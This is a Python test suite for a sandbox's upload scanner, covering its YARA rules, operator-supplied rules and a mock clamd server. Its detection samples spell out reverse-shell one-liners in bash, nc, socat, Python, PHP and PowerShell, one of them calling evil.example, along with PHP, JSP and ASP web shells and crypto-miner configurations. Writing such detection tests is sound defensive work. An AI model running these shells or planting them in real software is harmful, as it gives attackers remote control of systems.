"""The scanner: its own rules, an operator's, and clamd over its real protocol."""

import gzip
import io
import os
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from agi_site.lib.problems import Unavailable
from sandbox import files
from sandbox.files import scan
from sandbox.files.spool import Spool
from sandbox.models import SandboxEvent, SandboxQuarantine

from .fixtures_files import EICAR

pytestmark = pytest.mark.django_db


def found(content: bytes | str) -> str:
    """The rule that speaks against some content, "" for none."""
    data = content.encode() if isinstance(content, str) else content
    with Spool.filled([data], most=1 << 30) as spool, scan.Scan() as scanning:
        finding = scanning.look(spool)
    return finding.rule if finding else ""


BAD = {
    "EICAR_test_file": [EICAR, b"text before " + EICAR + b"\n"],
    "Miner_pool_protocol": ["url = stratum+tcp://pool.example.org:3333\nminer = xmrig\n"],
    "Miner_configuration": ['{"pools": [{"url": "x"}], "donate-level": 1, "randomx": {"mode": "auto"}}'],
    "Miner_program": [b"\x7fELF" + b"..xmrig.. XMRig donate-level randomx cn/r"],
    "Reverse_shell_one_liner": [
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "exec 5<>/dev/tcp/evil.example/443; cat <&5",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ncat 10.0.0.1 4444 -e /bin/bash",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
        "socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
    ],
    "Reverse_shell_python": [
        """import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));
[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")""",
        """import socket,subprocess,os\ns=socket.socket()\ns.connect(("1.2.3.4",1))\nos.dup2(s.fileno(),0)
os.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])""",
    ],
    "Reverse_shell_other_language": [
        "<?php $s=fsockopen('10.0.0.1',1234);shell_exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
    ],
    "Reverse_shell_powershell": [
        "$c = New-Object System.Net.Sockets.TCPClient('1.2.3.4',4444);$s = $c.GetStream();iex $data",
    ],
    "Web_shell_php": [
        "<?php system($_GET['cmd']); ?>",
        "<?php @eval(base64_decode($_POST['x']));",
        "<?= `$_GET[c]` ?>",
        "<?php $_GET['f']($_POST['a']);",
    ],
    "Web_shell_by_name": ["<?php /* b374k 3.2 */"],
    "Web_shell_jsp_or_asp": [
        '<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        '<%eval request("x")%>',
    ],
}  # fmt: skip


@pytest.mark.parametrize(("rule", "content"), [(rule, each) for rule, some in BAD.items() for each in some])
def test_what_the_rules_are_for_is_found(rule, content):
    assert found(content) == rule


@pytest.mark.parametrize(
    "content",
    [
        b"", "print('hello')", "import socket\ns = socket.socket()\ns.connect(('example.org', 80))\n",
        "subprocess.run(['bash', '-c', 'ls'])", "<?php echo htmlspecialchars($_GET['name']); ?>",
        "eval(expression)", "The stratum of a mining pool", "nc -l 8080", "bash -i", "mkfifo pipe",
        os.urandom(100_000),
        "const net = require('net'); net.connect(80, 'example.org')", "SELECT 1; -- xmrig",
        "s.connect((host, port))\nos.dup2(log.fileno(), 1)\n",
    ],
)  # fmt: skip
def test_ordinary_work_is_not_found(content):
    assert found(content) == ""


def test_the_programs_own_files_pass_their_own_scanner(settings):
    for folder in ("sandbox", "system", "agi_site/lib"):
        for path in Path(settings.BASE_DIR, folder).rglob("*.py"):
            assert found(path.read_bytes()) == "", path
    for path in scan.OWN_RULES.glob("*.yar"):
        assert found(path.read_bytes()) == "", path


def test_large_files_are_scanned_to_their_end_with_flat_memory():
    import tracemalloc

    content = [*(os.urandom(1 << 20) for _ in range(64)), EICAR]
    with Spool.filled(content, most=1 << 30) as spool, scan.Scan() as scanning:
        tracemalloc.start()
        assert scanning.look(spool) == scan.Finding("yara", "EICAR_test_file")
        assert tracemalloc.get_traced_memory()[1] < 1 << 20
        tracemalloc.stop()
        assert scanning.look(spool, 0, 64 << 20) is None


def test_a_mark_is_noted_but_passes(box, alice, workspace):
    packed = b"\x7fELF\x02\x01\x01" + b"UPX!" + b"$Info: This file is packed with the UPX executable packer $"
    files.upload(sandbox=box, by=alice, path="tool", chunks=[packed])
    event = SandboxEvent.objects.get(sandbox=box, kind="marked")
    assert event.data == {"path": "tool", "rules": ["Packed_by_UPX"]}
    assert "tool" in workspace.tree()


def zipped(name: str, content: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return target.getvalue()


def test_archives_that_move_as_files_are_looked_into(box, alice, workspace):
    with pytest.raises(files.Quarantined):
        files.upload(sandbox=box, by=alice, path="fine.zip", chunks=[zipped("../odd name\n", EICAR)])
    files.upload(sandbox=box, by=alice, path="good.zip", chunks=[zipped("a.txt", b"good")])
    files.upload(sandbox=box, by=alice, path="broken.zip", chunks=[zipped("a.txt", b"good")[:60]])
    files.upload(sandbox=box, by=alice, path="one.gz", chunks=[gzip.compress(b"one file")])
    assert set(workspace.tree()) == {"good.zip", "broken.zip", "one.gz"}


# --- An operator's rules ----------------------------------------------------------------------------------
@pytest.fixture
def rules(tmp_path: Path, settings: Any) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    settings.SANDBOX_SCAN_RULES = str(folder)
    return folder


def rule(name: str, text: str) -> str:
    return f'rule {name} {{ strings: $a = "{text}" condition: $a }}'


def test_an_operator_adds_rules_while_the_site_runs(rules):
    assert found("the company's secret word") == ""
    (rules / "ours.yar").write_text(rule("Company_secret", "secret word"))
    assert found("the company's secret word") == "Company_secret"
    assert found(EICAR) == "EICAR_test_file"
    (rules / "ours.yar").unlink()
    assert found("the company's secret word") == ""


def test_a_broken_rule_is_left_out_and_takes_no_other_with_it(rules, caplog):
    (rules / "broken.yar").write_text("rule oops { condition: nothing }")
    (rules / "fine.yar").write_text(rule("Fine", "findme"))
    (rules / "same.yar").write_text(rule("EICAR_test_file", "twice"))  # a name of its own folder
    assert found("findme") == "Fine"
    assert found(EICAR) == "EICAR_test_file"
    assert list(scan.broken_rules()) == [str(rules / "broken.yar")]
    assert "broken.yar" in caplog.text


def test_a_folder_of_rules_that_is_not_there_is_said(settings, tmp_path):
    settings.SANDBOX_SCAN_RULES = str(tmp_path / "nowhere")
    assert list(scan.broken_rules()) == [str(tmp_path / "nowhere")]
    assert found(EICAR) == "EICAR_test_file"


def test_a_rule_cannot_read_other_files(rules, tmp_path):
    (tmp_path / "elsewhere.yar").write_text(rule("Elsewhere", "x"))
    (rules / "includes.yar").write_text(f'include "{tmp_path}/elsewhere.yar"')
    assert found("x") == ""
    assert scan.broken_rules()


# --- clamd ------------------------------------------------------------------------------------------------
class Clamd:
    """A server that speaks clamd's INSTREAM; it finds EICAR, and takes `most` bytes."""

    def __init__(self, listener: socket.socket) -> None:
        self.most, self.answer, self.sizes = 1 << 30, b"", []
        self._listener = listener
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                peer, _address = self._listener.accept()
            except OSError:
                return
            with peer, peer.makefile("rb") as reader:
                peer.sendall(self._scan(reader) + b"\0")

    def _scan(self, reader: Any) -> bytes:
        assert reader.read(10) == b"zINSTREAM\0"
        data = b""
        while size := int.from_bytes(reader.read(4)):
            data += reader.read(size)
            if len(data) > self.most:
                return b"INSTREAM size limit exceeded. ERROR"
        self.sizes.append(len(data))
        if self.answer:
            return self.answer
        return b"stream: Eicar-Signature FOUND" if EICAR in data else b"stream: OK"

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join(5)


@pytest.fixture(params=["tcp", "unix"])
def clamd(request: pytest.FixtureRequest, settings: Any, tmp_path: Path) -> Iterator[Clamd]:
    if request.param == "tcp":
        listener = socket.create_server(("127.0.0.1", 0))
        settings.CLAMD_URL = f"tcp://127.0.0.1:{listener.getsockname()[1]}"
    else:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(str(tmp_path / "clamd.ctl"))
        listener.listen()
        settings.CLAMD_URL = f"unix://{tmp_path}/clamd.ctl"
    server = Clamd(listener)
    yield server
    server.close()


@pytest.fixture
def no_rules(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(scan, "OWN_RULES", tmp_path)


def test_clamd_finds_what_the_rules_do_not(clamd, no_rules, box, alice, workspace):
    with pytest.raises(files.Quarantined):
        files.upload(sandbox=box, by=alice, path="x", chunks=[EICAR])
    row = SandboxQuarantine.objects.get()
    assert (row.scanner, row.rule) == ("clamd", "Eicar-Signature")
    files.upload(sandbox=box, by=alice, path="y", chunks=[b"z" * 1_000_000])
    assert clamd.sizes == [68, 1_000_000]


def test_what_clamd_does_not_take_does_not_pass(clamd, box, alice, workspace):
    clamd.most = 1000
    with pytest.raises(Unavailable, match="StreamMaxLength"):
        files.upload(sandbox=box, by=alice, path="x", chunks=[b"x" * 3_000_000])
    assert workspace.asked == []


def test_an_answer_that_is_none_does_not_pass(clamd, box, alice, workspace):
    clamd.answer = b"UNKNOWN COMMAND"
    with pytest.raises(Unavailable):
        files.upload(sandbox=box, by=alice, path="x", chunks=[b"x"])
    assert workspace.asked == []


@pytest.mark.parametrize(
    "url", ["tcp://127.0.0.1:1", "unix:///nowhere/clamd.ctl", "http://127.0.0.1", "nonsense"]
)
def test_a_scanner_that_does_not_answer_lets_nothing_pass(url, settings, box, alice, workspace):
    settings.CLAMD_URL = url
    with pytest.raises(Unavailable) as refused:
        files.upload(sandbox=box, by=alice, path="x", chunks=[b"x"])
    assert refused.value.code == "scanner"
    assert workspace.asked == []


def test_several_scan_at_the_same_time() -> None:
    wrong: list[Any] = []

    def many(number: int, look: Callable[[bytes], str]) -> None:
        wrong.extend(
            number for _turn in range(50) if bool(look(EICAR if number % 2 else b"fine")) != bool(number % 2)
        )

    threads = [threading.Thread(target=many, args=(number, found)) for number in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []
